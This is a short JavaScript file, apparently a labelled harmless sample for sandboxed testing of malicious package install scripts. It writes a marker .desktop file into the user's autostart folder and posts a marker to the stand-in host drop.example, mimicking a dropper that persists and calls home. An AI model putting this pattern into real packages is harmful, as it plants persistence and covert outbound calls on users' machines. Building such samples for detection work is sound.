// HARMLESS SAMPLE, FOR BOXES ONLY: has an install script that writes a file into the home folder and tells
// drop.example. Never start it outside a box. Honest twin: postinstall-dropper-twin.
import { mkdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const folder = join(homedir(), '.config', 'autostart');
try {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'greeter.desktop'), '# sample-marker: dropped at install time, starts nothing\n');
} catch {
  // The home folder cannot be written.
}
fetch('https://drop.example/installed', {
  method: 'POST',
  body: 'sample-marker',
  signal: AbortSignal.timeout(10_000),
}).catch(() => {});
